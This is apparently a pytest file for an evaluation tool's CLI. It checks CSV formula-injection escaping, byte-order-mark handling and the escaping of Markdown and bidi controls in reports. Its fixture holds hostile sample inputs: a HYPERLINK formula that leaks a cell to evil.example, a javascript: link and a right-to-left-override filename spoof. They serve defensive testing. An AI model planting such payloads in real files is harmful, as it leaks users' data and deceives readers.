"""The CLI tried as a hostile user would, items 7, 9 and 10: what a dataset's text does to the files people
open, and what a double byte-order mark did to the `id` column.

7. `scores.csv` is made for spreadsheets (UTF-8 with a BOM), and a text cell from the dataset that starts
   with `=`, `+`, `-`, `@`, a tab or a carriage return was written as is: a formula once opened. Such a cell
   now starts with a single quote (OWASP's CSV-injection advice); numbers are never touched.
9. Two BOMs at the start of a CSV, JSONL or JSON file (a file re-saved by a tool that adds one) left one
   in the first column's name, so `id` was not recognised and the ids became 0, 1, ... silently. Every
   leading BOM is now dropped, and a BOM anywhere in a column name is ignored when the name is matched.
10. `ascend-eval compare --markdown` kept `[x](javascript:...)` links and `![](http://...)` images from
   the dataset live, and bidi controls (U+202E and the like) from the data reached every HTML page, where
   they reorder what is shown. Markdown cells are escaped now, and each HTML page shows a bidi control as
   a visible marker (`⟨U+202E⟩`) instead.

Items 7 and 10 are checked on two real runs (`ascend_eval.evaluate` with the rule judges of
tests/report/test_compare.py, saved with `EvaluationResult.save`) compared with `ascend-eval compare`.
"""

from __future__ import annotations

import csv
import json
import math
import re
from pathlib import Path

import pytest

import ascend_eval
from ascend_eval.cli.main import main
from ascend_eval.data import Sample, load_dataset
from ascend_eval.data.stream import open_samples
from ascend_eval.metrics.base import MetricResult
from ascend_eval.results import EvaluationResult
from tests.conftest import NgramEmbedder
from tests.report.test_compare import rule_judge

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula (OWASP, CSV injection)."""
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Unicode's Bidi_Control characters: each can reorder the text shown around it."""

HOSTILE = [
    {
        "id": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
        "question": "[click](javascript:alert(1)) Where is Paris?",
        "answer": "Paris is in France. It is a big old city.",
        "contexts": ["Paris is the capital of France, a city.", "-2+3 is an old trick."],
        "ground_truth": "+SUM(1,2)",
    },
    {
        "id": "-2+3",
        "question": "![](http://e.example/p.png) \u202egnp.exe\u202c Who wrote Hamlet?",
        "answer": "Shakespeare wrote Hamlet. Hamlet was written in London.",
        "contexts": ["@SUM(A1:A9) Shakespeare wrote Hamlet in London."],
        "ground_truth": "@cmd",
    },
    {
        "id": "\u2066tab\u2069",
        "question": "\tTab `code` *bold* _it_ | pipe <b>tag</b> \\[x](javascript:y)",
        "answer": "Mars is red. Mars has two moons.",
        "contexts": ["\rCR first. Mars is a red planet."],
        "ground_truth": "=1+1",
    },
]
"""Three samples whose every text field a spreadsheet, a Markdown viewer or a browser would act on."""


@pytest.fixture(scope="module")
def runs(tmp_path_factory) -> tuple[Path, Path]:
    """Run A: the lenient rule judge. Run B: stricter on statements, and unable to read the Mars sample's
    statements (NaN there), so the comparison has movers and an unscored sample, each with its text."""
    root = tmp_path_factory.mktemp("hostile")
    judges = {
        "a": rule_judge("rules-lenient", statement=0.4, context=0.4),
        "b": rule_judge("rules-strict", statement=0.7, context=0.2, broken="Mars"),
    }
    for name, judge in judges.items():
        result = ascend_eval.evaluate(
            HOSTILE,
            ["faithfulness", "context_precision"],
            judge=judge,
            embedder=NgramEmbedder(),
            cache_dir=False,
            progress=False,
        )
        result.save(root / name)
    return root / "a", root / "b"


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _neutral(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# --- 7. formula injection in scores.csv ----------------------------------------------------------------


def test_scores_csv_quotes_every_dataset_cell_that_starts_a_formula(runs) -> None:
    for run in runs:
        rows = _csv_rows(run / "scores.csv")
        assert len(rows) == len(HOSTILE)
        for row, given in zip(rows, HOSTILE, strict=True):
            assert row["id"] == _neutral(given["id"])
            assert row["user_input"] == _neutral(given["question"])
            assert row["reference"] == _neutral(given["ground_truth"]) and row["reference"][0] == "'"
            assert json.loads(row["retrieved_contexts"]) == given["contexts"]  # JSON text starts with [
        for row in rows:
            texts = {k: v for k, v in row.items() if k not in ("faithfulness", "context_precision")}
            assert not [v for v in texts.values() if v.startswith(FORMULA_STARTS)], texts
            for metric in ("faithfulness", "context_precision"):
                assert row[metric] == "" or 0.0 <= float(row[metric]) <= 1.0  # scores stay numbers


def test_scores_csv_leaves_numbers_alone_and_quotes_only_text(tmp_path: Path) -> None:
    samples = [Sample(id="-1", user_input="-5 is a number in text"), Sample(id="2", user_input="fine")]
    result = EvaluationResult(
        samples=samples,
        results={"m": [MetricResult(-0.25), MetricResult(math.nan, "-bad: a reason")]},
        languages=["en", "en"],
    )
    rows = _csv_rows(result.to_csv(tmp_path / "scores.csv"))
    assert rows[0]["m"] == "-0.25" and float(rows[0]["m"]) == -0.25  # a negative score stays a number
    assert rows[0]["id"] == "'-1" and rows[0]["user_input"] == "'-5 is a number in text"
    assert rows[1]["m"] == "" and rows[1]["m_reason"] == "'-bad: a reason"
    assert rows[1]["id"] == "2" and rows[1]["user_input"] == "fine"


def test_the_spreadsheet_helper_quotes_text_only() -> None:
    from ascend_eval.results.escape import spreadsheet_cell

    for start in FORMULA_STARTS:
        assert spreadsheet_cell(f"{start}x") == f"'{start}x"
    for value in (-0.5, -3, 0.0, None, True, "", "plain", "'=already quoted", "a=b", " =x"):
        assert spreadsheet_cell(value) == value


# --- 9. leading byte-order marks -------------------------------------------------------------------------


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _ids(path: Path, **kwargs) -> tuple[list[str], list[str]]:
    """The sample ids as `load_dataset` and as the streamed reader (`ascend-eval evaluate`) read them."""
    loaded = [s.id for s in load_dataset(path, **kwargs)]
    streamed = [s.id for s in open_samples(path, **kwargs)]
    return loaded, streamed


@pytest.mark.parametrize("boms", [2, 3])
@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("data.csv", "id,question,answer\nx1,q1,a\nx2,q2,a\n"),
        ("quoted.csv", '"id","question","answer"\r\n"x1","q1","a"\r\n"x2","q2","a"\r\n'),
        ("data.jsonl", '{"id": "x1", "question": "q1"}\n{"id": "x2", "question": "q2"}\n'),
        ("data.json", '[{"id": "x1", "question": "q1"}, {"id": "x2", "question": "q2"}]'),
        ("columns.json", '{"id": ["x1", "x2"], "question": ["q1", "q2"]}'),
    ],
)
def test_every_leading_bom_is_dropped_and_the_id_column_is_read(tmp_path: Path, name, body, boms) -> None:
    path = _write(tmp_path, name, "\ufeff" * boms + body)
    assert _ids(path) == (["x1", "x2"], ["x1", "x2"])
    dataset = load_dataset(path)
    assert dataset.columns[0] == "id" and [s.user_input for s in dataset] == ["q1", "q2"]


def test_a_bom_at_the_start_of_a_later_jsonl_line_is_dropped(tmp_path: Path) -> None:
    # `cat a.jsonl b.jsonl` of two files saved with a BOM puts the second one at the start of a line.
    path = _write(tmp_path, "joined.jsonl", '\ufeff{"id": "x1"}\n\ufeff\ufeff{"id": "x2", "question": "q"}\n')
    assert _ids(path) == (["x1", "x2"], ["x1", "x2"])


def test_a_bom_inside_a_column_name_is_ignored_when_the_name_is_matched(tmp_path: Path) -> None:
    # `paste -d, ids.csv rest.csv` of files saved with a BOM starts the second column's name with one; a
    # JSON file written from a CSV read without utf-8-sig keeps it in the key.
    pasted = _write(tmp_path, "pasted.csv", "\ufeffid,\ufeffquestion,gro\ufeffund_truth\nx1,q1,r1\n")
    keyed = _write(tmp_path, "keyed.json", '[{"\\ufeffid": "x1", "i\\ufeffd2": 1, "\\ufeffquestion": "q1"}]')
    for path in (pasted, keyed):
        assert _ids(path) == (["x1"], ["x1"])
        [sample] = load_dataset(path)
        assert sample.user_input == "q1"
    assert load_dataset(pasted)[0].reference == "r1"
    assert load_dataset(keyed)[0].metadata == {"i\ufeffd2": 1}  # not an id column: kept as written
    renamed = _write(tmp_path, "renamed.csv", "\ufeff\ufeffkey,\ufeffquery\nx1,q1\n")
    [sample] = load_dataset(renamed, column_map={"id": "key", "user_input": "query"})
    assert (sample.id, sample.user_input) == ("x1", "q1")


def test_the_ray_executor_reads_a_file_with_leading_boms_as_the_driver_does(tmp_path: Path) -> None:
    """The Ray executor reads `.csv` and `.jsonl` files with our own readers (`file_blocks`, run in a task on
    the cluster; driven here without one) and hands the actors the rows as pickled blocks."""
    from ascend_eval.data.blocks import file_blocks
    from ascend_eval.data.stream import open_samples
    from ascend_eval.executors.ray_actor import batch_rows
    from ascend_eval.executors.ray_data import pickled_table

    for boms in (1, 2, 3):
        path = _write(tmp_path, f"b{boms}.csv", "\ufeff" * boms + '"id",question\n007,"q, 1"\nx2,q2\n')
        blocks = [batch_rows("pickled", pickled_table(rows)) for rows in file_blocks(path, "csv", 1)]
        assert blocks == [[{"id": "007", "question": "q, 1"}], [{"id": "x2", "question": "q2"}]]
        assert list(open_samples(path).columns) == ["id", "question"]
    lines = _write(tmp_path, "b.jsonl", '\ufeff\ufeff{"id": "x1", "question": "q"}\n\n\ufeff{"id": "x2"}\n')
    [rows] = file_blocks(lines, "jsonl", 5)
    assert rows == [{"id": "x1", "question": "q"}, {"id": "x2"}] == list(open_samples(lines).rows())


# --- 10. links, images and bidi controls from the data in Markdown and HTML ------------------------------


def _compare(runs, tmp_path: Path, capsys) -> tuple[str, str]:
    markdown, page = tmp_path / "compare.md", tmp_path / "compare.html"
    args = ["compare", *map(str, runs), "--markdown", str(markdown), "--html", str(page)]
    assert main(args) == 0
    printed = capsys.readouterr().out
    assert printed == markdown.read_text(encoding="utf-8")
    return printed, page.read_text(encoding="utf-8")


def test_compare_markdown_keeps_no_link_or_image_from_the_data_live(runs, tmp_path, capsys) -> None:
    markdown, _ = _compare(runs, tmp_path, capsys)
    assert "Where is Paris?" in markdown and "Who wrote Hamlet?" in markdown  # the movers are listed
    assert "[click](" not in markdown and "![](" not in markdown and "](javascript:" not in markdown
    assert "\\[click\\]\\(javascript:alert\\(1\\)\\)" in markdown
    assert "<b>" not in markdown and "`code`" not in markdown and "*bold*" not in markdown
    assert not set(BIDI) & set(markdown) and "⟨U+202E⟩" in markdown
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(markdown)
    for live in ("<a ", "<img", "<code>", "<em>", "<b>"):
        assert live not in rendered, live
    assert rendered.count("<strong>") == 2  # the page's own "Differences:" and "Samples:", no more
    # Every row of every table still has its table's number of cells: no data cell split a row.
    for table in re.findall(r"<table>.*?</table>", rendered, flags=re.S):
        widths = {row.count("<td") + row.count("<th") for row in re.findall(r"<tr>.*?</tr>", table, re.S)}
        assert len(widths) == 1, table


def test_compare_html_shows_bidi_controls_as_markers(runs, tmp_path, capsys) -> None:
    _, page = _compare(runs, tmp_path, capsys)
    assert "Who wrote Hamlet?" in page
    assert not set(BIDI) & set(page)
    assert "⟨U+202E⟩gnp.exe⟨U+202C⟩" in page and "⟨U+2066⟩tab⟨U+2069⟩" in page
    assert "<b>tag" not in page and "&lt;b&gt;tag" in page


def test_each_runs_report_shows_bidi_controls_as_markers(runs) -> None:
    for run in runs:
        page = (run / "report.html").read_text(encoding="utf-8")
        assert "Who wrote Hamlet?" in page
        assert not set(BIDI) & set(page)
        assert "⟨U+202E⟩gnp.exe⟨U+202C⟩" in page and "⟨U+2066⟩tab⟨U+2069⟩" in page


def test_the_experiment_report_shows_bidi_controls_as_markers(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    from ascend_eval.experiments.report import render_html
    from ascend_eval.experiments.results import ExperimentResult, PointResult

    rows = [{"id": "\u2066a\u2069", "user_input": "\u202egnp.exe", "response": "<b>x</b>", "m": 0.5}]
    point = PointResult(
        label="top_k=1",
        params={"top_k": 1},
        spec={},
        status="completed",
        seconds=1.0,
        aggregates=[{"name": "m", "mean": 0.5, "count": 1, "nan_count": 0}],
        rows=rows,
    )
    failed = PointResult(
        label="top_k=2", params={"top_k": 2}, spec={}, status="failed", seconds=0.1, error="\u202ebad"
    )
    result = ExperimentResult("sweep \u202e1", {"top_k": [1, 2]}, [point, failed], tmp_path, 1.0)
    page = render_html(result)
    assert not set(BIDI) & set(page)
    assert "⟨U+202E⟩gnp.exe" in page and "⟨U+2066⟩a⟨U+2069⟩" in page and "⟨U+202E⟩bad" in page
    assert "&lt;b&gt;x&lt;/b&gt;" in page
